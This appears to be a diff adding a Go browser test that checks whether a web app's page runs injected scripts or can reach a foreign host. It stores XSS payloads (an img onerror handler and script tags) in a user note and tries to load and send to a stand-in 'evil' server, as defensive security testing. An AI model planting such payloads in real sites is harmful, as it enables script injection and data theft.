@@ -105,3 +105,28 @@ func TestLogoutEverywhereEndsEveryBrowser(t *testing.T) {
 		t.Errorf("alan: %d", status)
 	}
 }
+
+// TestPageRunsNobodyElsesScripts: what gets into the page is not run, and what
+// got into the notes is text.
+func TestPageRunsNobodyElsesScripts(t *testing.T) {
+	a := startApp(t)
+	w := newProfile(t).open(t, a.at(home, "/"))
+	w.login("ada", "lovelace")
+	const note = "<img src=x onerror='window.stolen = 1'><script>window.stolen = 2</script>"
+	w.keep(note)
+	evil := startEvil(t)
+	eval[bool](w, `[
+		document.createRange().createContextualFragment("<script>window.stolen = 3<\/script><img src='x' onerror='window.stolen = 4'>"),
+		Object.assign(document.createElement('script'), { src: %q }),
+	].every(node => document.body.append(node) ?? true)`, evil.at(foreign, "/script.js"))
+	w.until("fetch('/api/me').then(r => r.ok)") // what is loaded has been
+	if got := eval[string](w, "String(window.stolen)"); got != "undefined" {
+		t.Errorf("script %s has run", got)
+	}
+	if n := len(evil.passages("GET", "/script.js")); n != 0 {
+		t.Errorf("%d scripts were fetched from elsewhere", n)
+	}
+	if eval[string](w, "fetch(%q).then(() => 'sent', () => 'kept')", evil.at(foreign, "/")) != "kept" || len(evil.passages("GET", "/")) != 0 {
+		t.Error("the page can send to elsewhere")
+	}
+}
